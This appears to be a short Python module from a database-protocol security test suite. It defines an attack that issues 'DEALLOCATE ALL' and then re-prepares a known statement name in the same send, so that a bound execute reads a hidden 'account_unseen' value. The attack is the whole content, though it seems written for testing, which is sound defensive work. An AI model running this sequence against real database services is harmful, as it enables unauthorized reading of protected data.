"""Forgets all names, and gives a known one another meaning in the same send."""

from attacks.frames import SYNC, ask, bind, execute, parse, query
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        ask(client, parse(b"SELECT name FROM customer", b"s"), SYNC)
        anew = query(b"DEALLOCATE ALL") + query(b"PREPARE s AS SELECT account_unseen(1)")
        return ask(client, anew, bind(b"s"), execute(), SYNC, rounds=3)
